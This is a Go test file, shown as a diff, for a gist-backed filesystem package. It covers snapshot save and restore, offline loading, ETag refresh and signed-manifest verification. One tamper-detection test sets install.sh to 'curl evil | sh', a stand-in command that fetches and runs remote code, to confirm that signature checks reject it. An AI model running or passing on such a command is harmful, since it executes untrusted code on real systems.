@@ -0,0 +1,149 @@
+package gistfs
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestSnapshot(t *testing.T) {
+	fg, client := newFakeGist(t, map[string]string{"a.txt": "a"})
+	live := NewWithClient(client, referenceGistID)
+	live.Load(context.Background())
+
+	var buf bytes.Buffer
+	if err := live.SaveSnapshot(&buf); err != nil {
+		t.Fatalf("Saving a snapshot, expected no error but got %#v", err)
+	}
+	saved := buf.String()
+
+	t.Run("OK restore offline", func(t *testing.T) {
+		fg.SetStatus(http.StatusServiceUnavailable)
+		defer fg.SetStatus(0)
+
+		gfs := NewWithClient(client, referenceGistID)
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); err != nil {
+			t.Fatalf("Loading a snapshot, expected no error but got %#v", err)
+		}
+
+		b, err := gfs.ReadFile("a.txt")
+		if err != nil || string(b) != "a" {
+			t.Fatalf("Reading a restored file, got %#v (%v), want %#v", string(b), err, "a")
+		}
+	})
+
+	t.Run("OK conditional refresh", func(t *testing.T) {
+		gfs := NewWithClient(client, referenceGistID)
+		gfs.LoadSnapshot(strings.NewReader(saved))
+
+		if err := gfs.Load(context.Background()); err != nil {
+			t.Fatalf("Refreshing a restored gist, expected no error but got %#v", err)
+		}
+
+		if got, want := fg.LastHeader().Get("If-None-Match"), live.state().etag; got == "" || got != want {
+			t.Fatalf("Refreshing a restored gist, got If-None-Match %#v, want %#v", got, want)
+		}
+
+		fg.SetFiles(map[string]string{"a.txt": "changed"})
+		if err := gfs.Load(context.Background()); err != nil {
+			t.Fatalf("Refreshing a changed gist, expected no error but got %#v", err)
+		}
+
+		b, _ := gfs.ReadFile("a.txt")
+		if got, want := string(b), "changed"; got != want {
+			t.Fatalf("Reading after refreshing a changed gist, got %#v, want %#v", got, want)
+		}
+	})
+
+	t.Run("NOK checks", func(t *testing.T) {
+		gfs := NewWithClient(client, referenceGistID, WithPublicOnly())
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); !errors.Is(err, ErrVisibility) || gfs.IsLoaded() {
+			t.Fatalf("Loading the snapshot of a secret gist with WithPublicOnly, got %#v, want %#v", err, ErrVisibility)
+		}
+	})
+
+	t.Run("NOK other gist", func(t *testing.T) {
+		gfs := New("other")
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); err == nil {
+			t.Fatal("Loading the snapshot of another gist, got no error, want one")
+		}
+	})
+
+	t.Run("NOK unsupported version", func(t *testing.T) {
+		gfs := New(referenceGistID)
+		if err := gfs.LoadSnapshot(strings.NewReader(`{"version":42}`)); err == nil {
+			t.Fatal("Loading a snapshot with an unknown version, got no error, want one")
+		}
+	})
+
+	t.Run("NOK save not loaded", func(t *testing.T) {
+		if err := New(referenceGistID).SaveSnapshot(&bytes.Buffer{}); err != ErrNotLoaded {
+			t.Fatalf("Saving without loading, got %#v, want %#v", err, ErrNotLoaded)
+		}
+	})
+}
+
+func TestSnapshotSigned(t *testing.T) {
+	key := newMinisignKey(t, "key-id-1")
+	verify, _ := MinisignVerifier(key.publicKey())
+	opt := WithSignedManifest("SHA256SUMS", "SHA256SUMS.minisig", verify)
+	exclaim := WithTransform(func(name string, data []byte) ([]byte, error) {
+		return append(data, '!'), nil
+	})
+	files := map[string]string{"install.sh": "echo hi\n"}
+
+	snapshot := func(t *testing.T, files map[string]string, opts ...Option) string {
+		t.Helper()
+
+		_, client := newFakeGist(t, files)
+		live := NewWithClient(client, referenceGistID, opts...)
+		if err := live.Load(context.Background()); err != nil {
+			t.Fatalf("Loading, expected no error but got %#v", err)
+		}
+
+		var buf bytes.Buffer
+		if err := live.SaveSnapshot(&buf); err != nil {
+			t.Fatalf("Saving a snapshot, expected no error but got %#v", err)
+		}
+		return buf.String()
+	}
+
+	t.Run("OK transformed", func(t *testing.T) {
+		saved := snapshot(t, signedFiles(key, files), opt, exclaim)
+
+		gfs := New(referenceGistID, opt, exclaim)
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); err != nil {
+			t.Fatalf("Loading a snapshot, expected no error but got %#v", err)
+		}
+
+		if b, _ := gfs.ReadFile("install.sh"); string(b) != "echo hi\n!" {
+			t.Fatalf("Reading a restored file, got %q, want it transformed once", b)
+		}
+		if got := gfs.state().extra.signed; len(got) == 0 {
+			t.Fatal("Loading a snapshot, got no signed hashes, want the ones of the manifest")
+		}
+	})
+
+	t.Run("NOK tampered", func(t *testing.T) {
+		tampered := signedFiles(key, files)
+		tampered["install.sh"] = "curl evil | sh\n"
+		saved := snapshot(t, tampered)
+
+		gfs := New(referenceGistID, opt)
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); !errors.Is(err, ErrSignature) {
+			t.Fatalf("Loading the snapshot of a tampered gist, got %#v, want %#v", err, ErrSignature)
+		}
+	})
+
+	t.Run("NOK transformed unverified", func(t *testing.T) {
+		saved := snapshot(t, signedFiles(key, files), exclaim)
+
+		gfs := New(referenceGistID, opt, exclaim)
+		if err := gfs.LoadSnapshot(strings.NewReader(saved)); !errors.Is(err, ErrSignature) {
+			t.Fatalf("Loading an unverified snapshot of transformed content, got %#v, want %#v", err, ErrSignature)
+		}
+	})
+}